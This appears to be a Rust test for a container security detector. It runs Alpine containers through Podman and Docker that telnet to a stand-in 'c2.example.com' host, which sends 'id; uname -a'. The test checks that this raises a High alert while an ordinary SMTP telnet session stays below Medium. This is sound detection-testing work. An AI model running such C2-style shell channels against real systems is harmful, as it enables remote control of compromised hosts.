//! The brief's command through Podman: High, with container, image, process and who started it; the
//! innocent twin below Medium.

use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, bail};
use serde_json::Value;

use super::watch::Watch;
use crate::lab::far_end::{FarEnd, Script, Step, Transport};
use crate::lab::podman::Podman;
use crate::lab::{Lab, NAMESPACE};

const HIGH: u64 = 4;
const MEDIUM: u64 = 3;
const PATIENCE: Duration = Duration::from_secs(8);
/// What has to stay quiet gets this long.
const QUIET: Duration = Duration::from_secs(4);
/// Podman and its service need longer than Docker's client to name what they made.
const ROUNDS: u16 = 3;
/// The literal command lives for milliseconds. Where the far end's word comes after the network is
/// gone, nobody heard it, and the wire holds no order to find: that run is made again.
const TRIES: u16 = 3;

/// Who runs the command.
#[derive(Clone, Copy, Debug)]
enum Client {
    /// `podman`, which makes the container itself.
    Podman,
    /// `docker`, through the socket of Podman's service.
    Docker,
}

pub(super) fn run(lab: &Lab) -> Result<()> {
    let podman = Podman::start(&lab.engine.gateway)?;
    let watch = Watch::start_at(&podman.host, None, &[])?;
    let mut failed = 0;
    for round in 0..ROUNDS {
        let port = 4444 + round * TRIES;
        failed += report("literal", attack(&podman, &watch, Client::Podman, port));
    }
    failed += report("literal, docker's client", attack(&podman, &watch, Client::Docker, 4480));
    failed += report("telnet mail 25, speaking SMTP", twin(&podman, &watch));
    println!("{}", watch.stop()?);
    if failed > 0 {
        bail!("{failed} of the runs through Podman are not as they should be");
    }
    Ok(())
}

/// Prints a row; one where it is wrong.
fn report(name: &str, result: Result<String>) -> u32 {
    match result {
        Ok(said) => {
            println!("podman: {name:<32} {said}");
            0
        }
        Err(error) => {
            println!("podman: {name:<32} {error:#}   <== WRONG");
            1
        }
    }
}

/// The attack, on the first port of `TRIES` at which the container hears the far end.
fn attack(podman: &Podman, watch: &Watch, client: Client, port: u16) -> Result<String> {
    for port in port..port + TRIES - 1 {
        let outcome = attack_once(podman, watch, client, port);
        if outcome.is_ok() || was_heard(watch, port) {
            return outcome;
        }
        println!("podman: port {port}: the far end spoke after the container's end; once more");
    }
    attack_once(podman, watch, client, port + TRIES - 1)
}

/// Whether a byte of the far end's reached the container.
fn was_heard(watch: &Watch, port: u16) -> bool {
    let received = |finding: &Value| finding.pointer("/evidences/0/data/received_bytes")?.as_u64();
    about(watch, port).is_none_or(|(_, finding)| received(&finding) != Some(0))
}

fn attack_once(podman: &Podman, watch: &Watch, client: Client, port: u16) -> Result<String> {
    let steps = vec![Step::Say("id; uname -a\n".to_owned()), Step::Expect(1000)];
    let script = Script { transport: Transport::Tcp, port, calls: None, steps };
    let _far_end = FarEnd::start(&format!("ip netns exec {NAMESPACE}"), &script)?;
    let began = Instant::now();
    let words = ["run", "--rm", "alpine", "telnet", "c2.example.com", &port.to_string()];
    let mut command = client.command(podman);
    command.args(words).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::piped());
    let output = command.output().context("running the client")?;
    let mut last = "no alert".to_owned();
    while began.elapsed() < PATIENCE {
        if let Some((severity, finding)) = about(watch, port) {
            match client.verdict(severity, &finding, &words.join(" ")) {
                Ok(()) => {
                    return Ok(format!("High after {:.2} s", began.elapsed().as_secs_f32()));
                }
                Err(why) => last = why.to_string(),
            }
        }
        thread::sleep(Duration::from_millis(50));
    }
    bail!("{last}; the client said: {}", String::from_utf8_lossy(&output.stderr).trim())
}

impl Client {
    fn command(self, podman: &Podman) -> Command {
        match self {
            Self::Podman => podman.podman(),
            Self::Docker => {
                let mut docker = Command::new("/usr/bin/docker");
                docker.env("DOCKER_HOST", &podman.host);
                docker
            }
        }
    }

    /// Whether a finding says all that can be known.
    fn verdict(self, severity: u64, finding: &Value, words: &str) -> Result<()> {
        let text = |pointer: &str| finding.pointer(pointer).and_then(Value::as_str).unwrap_or("");
        if severity < HIGH {
            bail!("severity {severity}");
        }
        let image = text("/evidences/0/container/image/name");
        if !image.contains("alpine") {
            bail!("the image is {image:?}");
        }
        let command = text("/evidences/0/process/cmd_line");
        if !words.ends_with(command) || command.is_empty() {
            bail!("the command line is {command:?}");
        }
        let started_by = text("/evidences/0/actor/process/cmd_line");
        if !started_by.ends_with(words) {
            bail!("it was started by {started_by:?}");
        }
        Ok(())
    }
}

/// The strongest finding about this port of the far end.
fn about(watch: &Watch, port: u16) -> Option<(u64, Value)> {
    let port = u64::from(port);
    let is_meant = |finding: &Value| {
        let evidences = finding.get("evidences").and_then(Value::as_array);
        evidences.into_iter().flatten().any(|evidence| {
            evidence.pointer("/dst_endpoint/port").and_then(Value::as_u64) == Some(port)
        })
    };
    let all = watch.all().into_iter().filter(|said| is_meant(&said.finding));
    all.max_by_key(|said| said.severity).map(|said| (said.severity, said.finding))
}

/// An interactive client that speaks a known protocol.
fn twin(podman: &Podman, watch: &Watch) -> Result<String> {
    let say = |text: &str| Step::Say(text.to_owned());
    let steps = vec![
        say("220 mail.example.com ESMTP Postfix\r\n"),
        Step::Expect(4000),
        say("221 2.0.0 Bye\r\n"),
    ];
    let script = Script { transport: Transport::Tcp, port: 25, calls: None, steps };
    let _far_end = FarEnd::start(&format!("ip netns exec {NAMESPACE}"), &script)?;
    let mut command = podman.podman();
    command.args(["run", "--rm", "-i", "alpine", "telnet", "mail.example.com", "25"]);
    command.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null());
    let mut child = command.spawn().context("running podman")?;
    let mut stdin = child.stdin.take().context("its input")?;
    thread::sleep(Duration::from_millis(1500));
    std::io::Write::write_all(&mut stdin, b"QUIT\n").ok();
    child.wait()?;
    drop(stdin);
    thread::sleep(QUIET);
    match about(watch, 25) {
        Some((severity, _)) if severity >= MEDIUM => bail!("severity {severity}"),
        _ => Ok("below Medium".to_owned()),
    }
}
